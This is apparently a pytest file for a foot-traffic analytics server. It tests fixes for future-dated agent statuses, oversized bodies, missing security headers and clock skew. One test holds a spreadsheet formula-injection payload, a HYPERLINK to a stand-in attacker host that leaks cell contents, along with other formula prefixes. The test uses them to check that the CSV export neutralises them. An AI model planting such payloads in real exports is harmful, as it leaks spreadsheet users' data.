"""Issue #15's smaller findings, each attacked as reported: a status from 2099, a formula in a zone name,
pages without security headers."""

from __future__ import annotations

import csv as csvlib
import io
import time
from datetime import UTC, datetime, timedelta

import pytest
from footfall.server.ingest import Incoming, Ingestor

from tests.server.conftest import Server, aggregate, encoded


def status(sent_at: datetime, state: str = "online") -> dict:
    return {
        "kind": "status",
        "agent_id": "agent-1",
        "site_id": "mall",
        "state": state,
        "sent_at": sent_at.isoformat().replace("+00:00", "Z"),
    }


def test_a_status_from_the_future_cannot_pin_an_agents_state(sqlite_server: Server) -> None:
    response = sqlite_server.ingest(status(datetime(2099, 1, 1, tzinfo=UTC)))
    assert response.status_code == 422
    assert "sent_at: 2099-01-01T00:00:00+00:00 is in the future" in response.json()["rejected"][0]["reason"]
    now = datetime.now(UTC)
    assert sqlite_server.ingest(status(now - timedelta(seconds=5), "offline")).status_code == 200
    assert sqlite_server.ingest(status(now)).status_code == 200
    (agent,) = sqlite_server.get("/api/v1/agents").json()
    assert agent["state"] == "online"  # the real, latest status won


def test_a_zone_name_is_never_exported_as_a_spreadsheet_formula(sqlite_server: Server) -> None:
    sqlite_server.ingest(aggregate(zone="p", female=6, male=6))
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for name in (formula, "+1+1", "-2", "@SUM(A1)", "Food court"):
        response = sqlite_server.client.put(
            "/api/v1/sites/mall/zones/p", json={"name": name}, headers=sqlite_server.headers("admin")
        )
        assert response.status_code == 200, response.text
        text = sqlite_server.get(
            "/api/v1/sites/mall/traffic/export.csv",
            start="2026-11-15T00:00:00Z",
            end="2026-11-17T00:00:00Z",
            granularity="day",
        ).text
        cell = list(csvlib.reader(io.StringIO(text)))[1][2]
        assert cell in (name, "'" + name) and not cell.startswith(("=", "+", "-", "@")), cell


def test_pages_and_api_responses_carry_security_headers(sqlite_server: Server) -> None:
    for path in ("/dashboard/", "/dashboard/zone", "/dashboard/static/js/pages/overview.js"):
        response = sqlite_server.client.get(path)
        assert response.status_code == 200, path
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        csp = response.headers["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    api = sqlite_server.get("/api/v1/sites")
    assert api.headers["X-Content-Type-Options"] == "nosniff" and api.headers["Referrer-Policy"] == "no-referrer"


def test_an_oversized_body_is_refused_without_being_read_whole(sqlite_server: Server) -> None:
    """A 300 MiB POST raised server memory from 199 to 756 MiB before its 413: the limit now holds as the
    body streams in (and at once when Content-Length declares it)."""
    import asyncio

    from footfall.server.api.ingest import MAX_BODY_BYTES, _read_bounded
    from starlette.requests import Request

    pulled: list[int] = []

    async def receive() -> dict:  # what the ASGI server hands the app: 300 chunks of 1 MiB, on demand
        pulled.append(1)
        return {"type": "http.request", "body": b" " * (1 << 20), "more_body": len(pulled) < 300}

    request = Request({"type": "http", "method": "POST", "headers": []}, receive)
    assert asyncio.run(_read_bounded(request, MAX_BODY_BYTES)) is None
    assert len(pulled) == MAX_BODY_BYTES // (1 << 20) + 1, f"{len(pulled)} MiB were read before the refusal"

    headers = {**sqlite_server.headers("agent"), "Content-Type": "application/json"}
    declared = sqlite_server.client.post(
        "/api/v1/ingest", content=b"[]", headers={**headers, "Content-Length": str(300 << 20)}
    )
    assert declared.status_code == 413 and "larger than 8 MiB" in declared.json()["detail"]


def test_listening_beyond_loopback_with_demo_passwords_is_warned_about(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    import uvicorn
    from typer.testing import CliRunner

    from footfall.cli import app

    monkeypatch.setattr(uvicorn, "run", lambda *args, **kwargs: None)  # everything up to serving runs for real
    demo_mqtt = "mqtt://footfall-server:demo-server-password@127.0.0.1:1"
    cases = [
        (["--host", "0.0.0.0", "--mqtt", demo_mqtt], "warning: listening on 0.0.0.0 with the public demo password"),
        (["--host", "127.0.0.1", "--mqtt", demo_mqtt], None),
        (["--host", "0.0.0.0", "--mqtt", "mqtt://footfall-server:s3cret@127.0.0.1:1"], None),
    ]
    with socket.socket() as spare:  # a port nothing listens on: the server checks it can listen before serving
        spare.bind(("127.0.0.1", 0))
        port = str(spare.getsockname()[1])
    for args, expected in cases:
        result = CliRunner().invoke(app, ["server", *args, "--port", port, "--database-url", sqlite_url])
        assert result.exit_code == 0, result.output
        if expected:
            assert expected in result.output and "MQTT_URL" in result.output
        else:
            assert "warning" not in result.output


def test_a_status_from_a_clock_an_hour_fast_is_stored_as_sent_now_and_its_lead_is_listed(sqlite_server: Server) -> None:
    # Refused before, a box with a fast clock looked as if it had never reported; stored with its own sent_at, it
    # would pin its state (the offline below would look older). Stored as sent now, with the lead for the operator.
    now = datetime.now(UTC)
    assert sqlite_server.ingest(status(now + timedelta(hours=1))).status_code == 200
    (agent,) = sqlite_server.get("/api/v1/agents").json()
    assert agent["state"] == "online" and 3590 <= agent["clock_ahead_s"] <= 3600, agent
    # The clock is set right; the next status is the latest word on the agent.
    assert sqlite_server.ingest({**status(datetime.now(UTC)), "fps": 1.5}).status_code == 200
    (agent,) = sqlite_server.get("/api/v1/agents").json()
    assert agent["fps"] == 1.5 and agent["clock_ahead_s"] == 0, agent
    assert sqlite_server.ingest(status(datetime.now(UTC), "offline")).status_code == 200
    assert sqlite_server.get("/api/v1/agents").json()[0]["state"] == "offline"


def test_a_replica_whose_clock_runs_a_little_ahead_does_not_pin_a_box_whose_clock_was_just_set_right(
    sqlite_server: Server,
) -> None:
    """Found in review: a fast box's status was filed at the server's now; a replica two minutes ahead then filed it
    later than the box's first status after NTP set it right, which was ignored as older."""
    ahead_replica = Ingestor(sqlite_server.db, clock=lambda: time.time() + 120)
    fast = encoded({**status(datetime.now(UTC) + timedelta(hours=1)), "fps": 5.0})
    assert ahead_replica.ingest([Incoming(fast, "mqtt", "footfall/v1/mall/agent-1/status", live=True)]).statuses == 1
    assert sqlite_server.ingest({**status(datetime.now(UTC)), "fps": 1.25}).status_code == 200
    (agent,) = sqlite_server.get("/api/v1/agents").json()
    assert agent["fps"] == 1.25 and agent["clock_ahead_s"] == 0, agent


def test_a_retained_copy_or_last_will_leaves_the_clock_lead_as_the_live_status_measured_it(
    sqlite_server: Server,
) -> None:
    # Found in review: a retained copy replayed 50 minutes late read as a lead of 10; the will (made at connect)
    # wiped the lead of a box still an hour fast.
    ingestor = Ingestor(sqlite_server.db)
    topic = "footfall/v1/mall/agent-1/status"
    live = encoded(status(datetime.now(UTC) + timedelta(hours=1)))
    assert ingestor.ingest([Incoming(live, "mqtt", topic, live=True)]).statuses == 1
    replayed = encoded(status(datetime.now(UTC) + timedelta(minutes=10)))
    assert ingestor.ingest([Incoming(replayed, "mqtt", topic, live=False)]).statuses == 1
    will = encoded(status(datetime.now(UTC) - timedelta(hours=1), "offline"))
    assert ingestor.ingest([Incoming(will, "mqtt", topic, live=True)]).statuses == 1
    (agent,) = sqlite_server.get("/api/v1/agents").json()
    assert agent["state"] == "offline" and 3590 <= agent["clock_ahead_s"] <= 3600, agent


def test_a_box_minutes_fast_is_not_pinned_once_its_clock_is_set_right(sqlite_server: Server) -> None:
    # Found in review: a status 14 minutes ahead kept its own time, so the statuses after NTP set the box right
    # looked older and were ignored for 14 minutes (its frame rate, models and lead stayed stale).
    assert sqlite_server.ingest({**status(datetime.now(UTC) + timedelta(minutes=14)), "fps": 5.0}).status_code == 200
    assert sqlite_server.ingest({**status(datetime.now(UTC)), "fps": 1.25}).status_code == 200
    (agent,) = sqlite_server.get("/api/v1/agents").json()
    assert agent["fps"] == 1.25 and agent["clock_ahead_s"] == 0, agent
